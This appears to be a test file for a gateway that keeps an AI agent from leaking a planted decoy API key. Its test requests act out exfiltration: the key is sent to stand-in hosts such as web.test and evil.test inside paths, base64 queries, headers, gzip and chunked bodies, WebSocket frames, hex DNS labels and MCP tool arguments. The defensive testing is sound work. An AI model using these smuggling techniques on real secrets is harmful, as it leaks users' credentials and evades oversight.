import { createHash } from 'node:crypto';
import { rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, request, type Server } from 'node:http';
import { type AddressInfo, connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createServer as createTlsServer } from 'node:tls';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createCa, createHostCertificate } from '../../../../images/gateway/certificate.mjs';
import type { SeenDecoy } from '../../../../src/core/types/secret/decoy.ts';
import { readSeenDecoys } from '../../../../src/network/gateway/decoy-log.ts';
import { fixedCredential, GatewayProcess } from '../../../support/gateway-process.ts';
import { type StandIn, startMessagesApi } from '../../../support/stand-in/messages-api.mjs';

// What an agent sends that has read a decoy: to a web server over plain HTTP, to a host whose requests are read, and to its
// provider. All of them run here, and keep what reaches them.

const DECOY = 'sk_live_4fT9uYbQ2mXcVn7LpAqZ';
const PLACE = { path: '.env', name: 'STRIPE_SECRET_KEY' };
const company = createCa(Date.now());
/** What reached the web server and the host whose requests are read. */
let wire = '';
const servers: { close(): unknown }[] = [];
let gateway: GatewayProcess;
let provider: StandIn;

async function listen<T extends Pick<Server, 'listen' | 'address' | 'close'>>(server: T): Promise<number> {
  servers.push(server);
  await new Promise<void>((done) => server.listen(0, '127.0.0.2', done));
  return (server.address() as AddressInfo).port;
}

function keep(socket: Socket): void {
  socket.on('error', () => undefined);
  socket.on('data', (chunk) => {
    wire += chunk.toString('latin1');
  });
}

function answer(request: IncomingMessage, response: import('node:http').ServerResponse): void {
  request.resume().on('end', () => response.end('arrived'));
}

/** A server that takes WebSockets and sends every byte of a frame back. */
function webServer(): Server {
  const server = createServer(answer);
  server.on('connection', keep);
  server.on('upgrade', (asked: IncomingMessage, socket: Socket) => {
    const accept = createHash('sha1').update(
      `${asked.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`,
    );
    const head = `Sec-WebSocket-Accept: ${accept.digest('base64')}\r\n\r\n`;
    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n${head}`);
    socket.on('data', () => socket.write('arrived'));
  });
  return server;
}

beforeAll(async () => {
  const http = createServer(answer);
  const tls = createTlsServer(createHostCertificate(company, 'read.test', Date.now()), (socket) => {
    keep(socket);
    http.emit('connection', socket);
  });
  const [web, read] = [await listen(webServer()), await listen(tls as unknown as Server)];
  provider = await startMessagesApi({ turns: [] });
  const caBundle = path.join(tmpdir(), `run-claude-decoys-${process.pid}`);
  writeFileSync(caBundle, '');
  const requests = ['/mcp', '/json', '/raw'].map((one) => ({ method: 'POST', path: one }));
  gateway = await GatewayProcess.start({
    credential: fixedCredential('real-login'),
    targets: { provider: { host: '127.0.0.1', port: provider.port } },
    config: {
      caBundle,
      extraCa: company.certificate,
      provider: { url: `http://127.0.0.1:${provider.port}`, relay: true },
      allowAddresses: ['127.0.0.2/32'],
      rules: ['web.test', 'read.test', 'evil.test'].map((host) => ({ host, from: 'test' })),
      hosts: { 'web.test': [`127.0.0.2@${web}`], 'read.test': [`127.0.0.2@${read}`] },
      brokers: [
        { host: 'read.test', passes: { requests: requests.slice(1) }, also: { contentTypes: ['text/plain'] } },
        { host: 'read.test', passes: { requests: requests.slice(0, 1) }, mcp: {} },
      ],
      decoys: [{ ...PLACE, value: DECOY }],
    },
  });
  rmSync(caBundle);
});

afterAll(async () => {
  await gateway[Symbol.asyncDispose]();
  await provider.close();
  for (const server of servers) server.close();
});

let before: readonly SeenDecoy[] = [];
beforeEach(() => {
  wire = '';
  before = readSeenDecoys(gateway.dir);
});

/** The last entry of the network log that is not of an earlier test. */
const lastEntry = () => gateway.entries().at(-1);

const http = (line: string, headers: string, body: string | Buffer = ''): Buffer =>
  Buffer.concat([
    Buffer.from(`${line} HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n${headers}`),
    Buffer.from(body.length === 0 ? '\r\n' : `Content-Length: ${body.length}\r\n\r\n`),
    Buffer.from(body),
  ]);

describe('a decoy to a host over plain HTTP', () => {
  const base64 = Buffer.from(`k=${DECOY}`).toString('base64');
  it.each([
    ['in the path', http(`GET http://web.test/${DECOY}`, '')],
    ['in the query, escaped and in base64', http(`GET http://web.test/?k=${encodeURIComponent(base64)}`, '')],
    ['in a header', http('GET http://web.test/', `X-Data: ${DECOY}\r\n`)],
    ['in basic authorization', http('GET http://web.test/', `Authorization: Basic ${base64}\r\n`)],
    ['in the body', http('POST http://web.test/', '', `a=1&key=${DECOY}`)],
    ['in a body of gzip', http('POST http://web.test/', 'Content-Encoding: gzip\r\n', gzipSync(`key=${DECOY}\n`))],
    [
      'in an uploaded archive',
      http('POST http://web.test/', '', Buffer.concat([Buffer.from('--x\r\n'), gzipSync(DECOY)])),
    ],
  ])('is blocked %s', async (_, bytes) => {
    const text = await gateway.say(bytes, undefined, /\n\n|arrived/);
    expect(text).not.toContain('arrived');
    expect(wire).not.toContain(DECOY);
    await expect.poll(lastEntry).toMatchObject({ kind: 'http', verdict: 'refused', decoys: [PLACE] });
  });

  it('is blocked in a chunked body, before its last part leaves', async () => {
    const part = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`;
    const body = `${part('x'.repeat(3000))}${part(DECOY.slice(0, 20))}${part(DECOY.slice(20))}0\r\n\r\n`;
    const head = 'POST http://web.test/ HTTP/1.1\r\nHost: web.test\r\nTransfer-Encoding: chunked\r\n\r\n';
    expect(await gateway.say(`${head}${body}`, undefined, /must not leave/)).toContain(' 403 ');
    expect(wire).not.toContain(DECOY.slice(20));
  });

  it('is blocked in a frame of a WebSocket', async () => {
    const text = await upgrade([Buffer.from('hello'), Buffer.from(JSON.stringify({ key: DECOY }))]);
    expect(text).toContain(' 101 ');
    expect(wire).toContain('hello'.replace(/./g, (one, at: number) => mask(one, at)));
    expect(wire).not.toContain([...DECOY].map((one, at) => mask(one, at + 8)).join(''));
    await expect.poll(lastEntry).toMatchObject({ method: 'UPGRADE', verdict: 'refused', decoys: [PLACE] });
  });

  it('lets other requests pass', async () => {
    const passes = http('POST http://web.test/', 'Content-Encoding: gzip\r\n', gzipSync('sk_live_ is a prefix'));
    expect(await gateway.say(passes, undefined, /arrived/)).toContain('arrived');
    expect(await gateway.say(http('GET http://web.test/', ''), undefined, /arrived/)).toContain('arrived');
    expect(lastEntry()?.decoys).toBeUndefined();
  });
});

const MASK = Buffer.from([1, 2, 3, 4]);
const mask = (one: string, at: number): string => String.fromCharCode(one.charCodeAt(0) ^ (MASK[at % 4] ?? 0));

/** Sends masked text frames; resolves with what came back until the connection ended. */
function upgrade(messages: readonly Buffer[]): Promise<string> {
  const frame = (payload: Buffer): Buffer =>
    Buffer.concat([
      Buffer.of(0x81, 0x80 + payload.length),
      MASK,
      payload.map((byte, at) => byte ^ (MASK[at % 4] ?? 0)),
    ]);
  return new Promise((done) => {
    const socket = connect(path.join(gateway.dir, 'proxy.sock'));
    let text = '';
    const [first, ...rest] = messages;
    socket.on('data', (chunk) => {
      const isFirst = text === '';
      text += chunk.toString('latin1');
      if (isFirst) socket.write(frame(first as Buffer));
      else for (const one of rest) socket.write(frame(one));
    });
    socket.on('error', () => undefined).on('close', () => done(text));
    socket.write(
      'GET http://web.test/ws HTTP/1.1\r\nHost: web.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n',
    );
  });
}

it('asks for no compression of frames that could not be searched', async () => {
  await upgrade([Buffer.from('x'), Buffer.from(DECOY)]);
  expect(wire).not.toMatch(/sec-websocket-extensions/i);
});

describe('a decoy in the name of a host', () => {
  it.each([
    ['that no rule lets pass', `${Buffer.from(DECOY).toString('hex')}.other.test`],
    ['over labels', `${Buffer.from(DECOY).toString('hex').replace(/.{20}/g, '$&.')}.evil.test`],
  ])('is reported %s', async (_, host) => {
    await gateway.say(`CONNECT ${host}:443 HTTP/1.1\r\nHost: ${host}:443\r\n\r\n`);
    await expect.poll(lastEntry).toMatchObject({ verdict: 'refused', host, decoys: [PLACE] });
    await gateway.say(`GET http://${host}/ HTTP/1.1\r\nHost: ${host}\r\n\r\n`, undefined, /must not leave/);
    await expect.poll(lastEntry).toMatchObject({ kind: 'http', verdict: 'refused', decoys: [PLACE] });
  });
});

describe('a decoy to a host whose requests are read', () => {
  const toolCall = (text: string): string =>
    JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'post', arguments: { text } } });
  const inside = (line: string, type: string, body: string, more = ''): Promise<string> =>
    gateway.sayInside(
      'read.test',
      `${line} HTTP/1.1\r\nHost: read.test\r\nContent-Type: ${type}\r\n${more}Content-Length: ${body.length}\r\n\r\n${body}`,
    );

  it.each([
    ['in a JSON body that is read', () => inside('POST /json', 'application/json', `{"a":["${DECOY}"]}`)],
    ['in a body that passes unread', () => inside('POST /raw', 'text/plain', `notes: ${DECOY}\n`)],
    ['in an argument of an MCP tool', () => inside('POST /mcp', 'application/json', toolCall(DECOY))],
    ['in an argument in base64', () => inside('POST /mcp', 'application/json', toolCall(btoa(`k=${DECOY}`)))],
  ])('is blocked %s', async (_, ask) => {
    expect(await ask()).toMatch(/ 403 [\s\S]*masked file .env \(STRIPE_SECRET_KEY\)/);
    expect(wire).not.toContain(DECOY);
    await expect.poll(lastEntry).toMatchObject({ kind: 'broker', verdict: 'refused', decoys: [PLACE] });
  });

  it('lets a call of an MCP tool pass that has none', async () => {
    expect(await inside('POST /mcp', 'application/json', toolCall('sk_live_'))).toContain('arrived');
  });

  it('does not count a header that is not sent on', async () => {
    expect(await inside('POST /json', 'application/json', '{}', `Authorization: Bearer ${DECOY}\r\n`)).toContain(
      'arrived',
    );
    expect(wire).not.toContain(DECOY);
  });
});

describe('a decoy to the provider', () => {
  const ask = (content: unknown): Promise<number> =>
    new Promise((done, failed) => {
      const socketPath = path.join(gateway.dir, 'api.sock');
      const out = request({ socketPath, method: 'POST', path: '/v1/messages' }, (answer) => {
        answer.resume().on('end', () => done(answer.statusCode ?? 0));
      });
      out.on('error', failed);
      out.end(JSON.stringify({ model: 'claude-opus-5', stream: true, messages: [{ role: 'user', content }] }));
    });

  it('passes, and is kept as read, once', async () => {
    for (let time = 0; time < 2; time += 1) expect(await ask(`STRIPE_SECRET_KEY=${DECOY}`)).toBe(200);
    expect(provider.requests.at(-1)?.body).toMatchObject({ model: 'claude-opus-5' });
    const seen = readSeenDecoys(gateway.dir).slice(before.length);
    expect(seen).toMatchObject([{ as: 'read', ...PLACE }]);
    expect(gateway.events.filter((one) => one.kind === 'message' && one.text.includes('provider'))).toEqual([]);
  });

  it('is blocked in an address that the provider would open', async () => {
    const image = { type: 'image', source: { type: 'url', url: `http://web.test/${DECOY}.png` } };
    expect(await ask([image])).toBe(403);
    await expect.poll(lastEntry).toMatchObject({ kind: 'provider', verdict: 'refused', decoys: [PLACE] });
  });
});

it('tells the user of each decoy and host once, and keeps both for the end of the session', () => {
  const sent = readSeenDecoys(gateway.dir).filter((one) => one.as === 'sent');
  expect(sent.filter(({ to }) => to === 'web.test:80')).toHaveLength(1);
  const told = gateway.events.filter((one) => one.kind === 'message' && one.text.includes('blocked a decoy of .env'));
  expect(told.filter((one) => 'text' in one && one.text.includes('web.test:80'))).toHaveLength(1);
});
